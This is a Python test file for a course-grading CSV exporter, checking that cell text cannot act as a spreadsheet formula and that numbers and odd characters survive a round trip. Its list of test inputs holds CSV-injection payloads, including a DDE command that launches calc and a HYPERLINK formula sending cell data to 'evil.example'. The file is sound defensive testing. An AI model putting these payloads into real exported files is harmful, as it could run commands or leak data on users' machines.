"""Cells: no text is a formula, every number is a number, and all of it can be read again."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nbcourse.grading.exports.cells import guarded, number, write
from tests.unit.grading.exports.conftest import read

FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0", " =1", "\u3000=1",
    '=HYPERLINK("http://evil.example?"&A1)', "＝1", "＋1", "－1", "＠a", "\n=1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text):
    """A text that begins like a formula begins with an apostrophe, or with a visible escape."""
    assert guarded(text)[0] in ("'", "\\")


@pytest.mark.parametrize("text", ["", "Ada", "a=b", "a-b", "5-3", "Zoë", "O'Brien", "1,2;3"])
def test_other_text_stays(text):
    """A hyphen inside is no formula."""
    assert guarded(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [(7.0, "7"), (-2.5, "-2.5"), (-3, "-3"), (2 / 3, "0.6667"), (0.0, "0"), (None, '""')],
)
def test_numbers_stay_numbers(tmp_path, value, cell):
    """Without quotes and apostrophes, negative ones too; None is an empty cell."""
    write(tmp_path / "x.csv", ["n"], [[number(value)]])
    assert (tmp_path / "x.csv").read_bytes().decode() == f'"n"\r\n{cell}\r\n'


@given(
    rows=st.lists(st.lists(st.text(alphabet=st.characters(), max_size=20), min_size=2, max_size=2))
)
def test_any_text_comes_back_in_its_cell(tmp_path_factory, rows):
    """Commas, quotes, line breaks, controls: the table keeps its shape, no cell is a formula."""
    path = tmp_path_factory.mktemp("csv") / "x.csv"
    write(path, ["a", "b"], rows)
    found = read(path)
    assert [len(row) for row in found] == [2] * (len(rows) + 1)
    assert found[1:] == [[guarded(cell) for cell in row] for row in rows]
    assert not any(cell[:1] in tuple("=+-@\t\r\n") and cell for row in found for cell in row)


@pytest.mark.parametrize("text", ["a;=1+1", 'a";=1+1;"', "a\n=1+1"])
def test_no_formula_appears_at_a_semicolon(tmp_path, text):
    """A program that splits at semicolons finds no formula at the beginning of a cell."""
    write(tmp_path / "x.csv", ["a", "b"], [[text, 1]])
    content = (tmp_path / "x.csv").read_text(encoding="utf-8")
    for row in csv.reader(io.StringIO(content, newline=""), delimiter=";"):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_the_header_is_guarded(tmp_path):
    """A name of an assignment is a text like any other."""
    write(tmp_path / "x.csv", ["=evil"], [])
    assert read(tmp_path / "x.csv") == [["'=evil"]]
